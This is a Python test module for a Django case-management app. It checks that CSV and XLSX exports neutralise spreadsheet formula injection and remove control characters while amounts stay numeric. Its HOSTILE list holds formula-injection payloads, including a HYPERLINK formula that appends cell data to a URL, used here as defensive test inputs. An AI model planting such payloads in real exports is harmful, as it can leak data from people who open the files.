"""Exports are safe by construction: no cell runs as a formula, no character breaks a file.

An association named ``=HYPERLINK(…)`` must come out of every CSV and XLSX — the round's
decision list, the round's ZIP, a case's ZIP with its ``trail.csv``, the round report —
as text; a name with a vertical tab or a NUL must not make any of them fail; amounts
stay numbers. Every writer goes through ``cases/documents/cells.py``, and this module
also checks that no other module can write CSV or XLSX.
"""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from django.db import connection
from django.test import TestCase
from django.urls import reverse

from cases.documents import cells
from cases.models import RoundExport
from cases.roles import forget_profile
from tests.conftest import advance, on_agenda
from tests.factories import ApplicationFactory, AssociationFactory, FocusAreaFactory, tie
from workflows import engine

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://x"&A3,"y")', "+1", "-1+2", "@SUM(A1)", "\tX", "\rX"]


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _body(response: Any) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return bytes(response.content)


def _round_export(client: Any, world: SimpleNamespace) -> bytes:
    """The round's complete export as its user gets it: ordered on its page, made by the
    worker (in-process here, when the order commits), downloaded."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        client.post(reverse("audit:round_export", args=[world.round.pk]))
    export = RoundExport.objects.latest("pk")
    return _body(client.get(reverse("audit:round_export_file", args=[export.pk])))


def _csv_has_text(rows: list[list[str]], value: str, where: str) -> None:
    flat = [cell for row in rows for cell in row]
    assert "'" + value in flat, f"{value!r} is not neutralised in {where}"
    assert value not in flat, f"{value!r} is a live formula in {where}"


def _xlsx_has_text(data: bytes, value: str, where: str) -> None:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(data)).active
    found = [c for row in sheet.iter_rows() for c in row if c.value in (value, "'" + value)]
    assert found, f"{value!r} is missing from {where}"
    for c in found:
        assert c.data_type != "f" and c.value == "'" + value, (where, c.value, c.data_type)


@pytest.fixture
def hostile(world: SimpleNamespace) -> SimpleNamespace:
    """One application per hostile text: as the association's name and the title, and as
    the case officer's reason (so it is in the trail); one of them granted."""
    focus = FocusAreaFactory(round=world.round, name=HOSTILE[0])
    applications = []
    for value in HOSTILE:
        association = AssociationFactory(name=value)
        tie(world.anna, association)
        forget_profile(world.anna)
        application = ApplicationFactory(round=world.round, association=association, title=value)
        application.focus_areas.set([world.focus, focus])
        application = engine.perform(application, "submit", user=world.anna)
        application = engine.perform(application, "accept", user=world.carl, reason=value)
        applications.append(application)
    on_agenda(applications[0], world)
    granted = advance(applications[0], world, "granted")
    return SimpleNamespace(applications=applications, granted=granted)


def test_no_cell_of_any_export_is_a_formula(
    world: SimpleNamespace, hostile: SimpleNamespace, as_user: Any
) -> None:
    client = as_user(world.carl)
    decisions = reverse("audit:round_decisions", args=[world.round.pk])
    listing = _csv(_body(client.get(decisions + "?format=csv")))
    sheet = _body(client.get(decisions + "?format=xlsx"))
    response = client.get(reverse("reports:round_report_csv", args=[world.round.pk]))
    assert response["X-Content-Type-Options"] == "nosniff"
    report = _csv(_body(response))
    archive = zipfile.ZipFile(io.BytesIO(_round_export(client, world)))
    case = zipfile.ZipFile(
        io.BytesIO(
            _body(
                client.get(reverse("audit:application_export", args=[hostile.applications[1].pk]))
            )
        )
    )
    for value in HOSTILE:
        _csv_has_text(listing, value, "the decision list (CSV)")
        _xlsx_has_text(sheet, value, "the decision list (XLSX)")
        _csv_has_text(_csv(archive.read("decisions.csv")), value, "the round ZIP's CSV")
        _xlsx_has_text(archive.read("decisions.xlsx"), value, "the round ZIP's XLSX")
    _csv_has_text(report, HOSTILE[0], "the round report (CSV)")
    # A reason is stripped of surrounding blanks when given; the rest are kept as typed.
    for application, value in zip(hostile.applications[:4], HOSTILE, strict=False):
        trail = _csv(archive.read(f"{application.case_number}/trail.csv"))
        _csv_has_text(trail, value, "the round ZIP's trail.csv")
    _csv_has_text(_csv(case.read("trail.csv")), HOSTILE[1], "the case ZIP's trail.csv")
    every_csv = [listing, report, _csv(case.read("trail.csv"))] + [
        _csv(archive.read(name)) for name in archive.namelist() if name.endswith(".csv")
    ]
    for rows in every_csv:
        assert not [c for row in rows for c in row if c.startswith(cells.FORMULA_START)]


def test_amounts_stay_numbers(
    world: SimpleNamespace, hostile: SimpleNamespace, as_user: Any
) -> None:
    from openpyxl import load_workbook

    url = reverse("audit:round_decisions", args=[world.round.pk]) + "?format=xlsx"
    sheet = load_workbook(io.BytesIO(_body(as_user(world.carl).get(url)))).active
    row = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == hostile.granted.case_number)
    assert row[5].data_type == "n" and row[5].value == float(hostile.granted.amount_requested)
    assert row[7].value == 20000.0 and row[7].number_format == "#,##0.00"
    # Negative numbers are numbers, not text to neutralise; a text that looks like one is.
    assert cells.csv_value(Decimal("-500.00")) == "-500.00"
    assert cells.xlsx_value(Decimal("-500.50")) == -500.5
    assert cells.xlsx_value(-3) == -3
    assert cells.csv_value("-500") == "'-500"


def _broken_name() -> str:
    # PostgreSQL cannot store NUL in text at all; SQLite can, so there it is tried too.
    return "Lektie\x0bcaféen" + ("\x00" if connection.vendor == "sqlite" else "")


@pytest.mark.parametrize("who", ["carl", "gustav"])
def test_a_control_character_in_a_name_breaks_no_export(
    world: SimpleNamespace, draft: Any, as_user: Any, who: str
) -> None:
    from openpyxl import load_workbook

    world.a.name = _broken_name()
    world.a.save()
    granted = advance(draft, world, "granted")
    client = as_user(getattr(world, who))
    decisions = reverse("audit:round_decisions", args=[world.round.pk])
    sheet = load_workbook(io.BytesIO(_body(client.get(decisions + "?format=xlsx")))).active
    assert sheet.cell(row=3, column=2).value == "Lektiecaféen"
    listing = _csv(_body(client.get(decisions + "?format=csv")))
    assert listing[1][1] == "Lektiecaféen"
    archive = zipfile.ZipFile(io.BytesIO(_round_export(client, world)))
    load_workbook(io.BytesIO(archive.read("decisions.xlsx")))
    case = zipfile.ZipFile(
        io.BytesIO(_body(client.get(reverse("audit:application_export", args=[granted.pk]))))
    )
    assert case.read("summary.pdf").startswith(b"%PDF")
    _body(client.get(reverse("reports:round_report_csv", args=[world.round.pk])))


def test_cells_strip_what_the_formats_cannot_hold() -> None:
    assert cells.text("a\x00b\x0bc\x0cd\x1fe\tf\ng\rh") == "abcde\tf\ng\rh"
    # Stripping first: a control character cannot hide a formula from the check.
    assert cells.text("\x0b=1+1") == "'=1+1"
    assert cells.xlsx_value(None) is None and cells.csv_value(None) == ""
    assert cells.xlsx_value(True) is True
    long = cells.xlsx_value("x" * 40_000)
    assert len(long) == cells.XLSX_MAX_CELL and long.endswith("…")
    assert cells.csv_value("x" * 40_000) == "x" * 40_000


# --- nothing writes a CSV or XLSX except cells.py ------------------------------------------

WRITERS = {"csv", "openpyxl", "xlsxwriter"}


def test_only_the_cell_helper_imports_a_csv_or_xlsx_writer() -> None:
    """A new export cannot bypass the helper: importing ``csv`` or ``openpyxl`` anywhere
    else in the application fails here (tests and benchmarks may read files as they like)."""
    offenders = []
    for package in ("accounts", "api", "cases", "config", "notifications", "web", "workflows"):
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "cases/documents/cells.py" or "migrations" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Import):
                    names = [alias.name for alias in node.names]
                elif isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
                    names = [node.module]
                else:
                    continue
                if any(name.split(".")[0] in WRITERS for name in names):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []
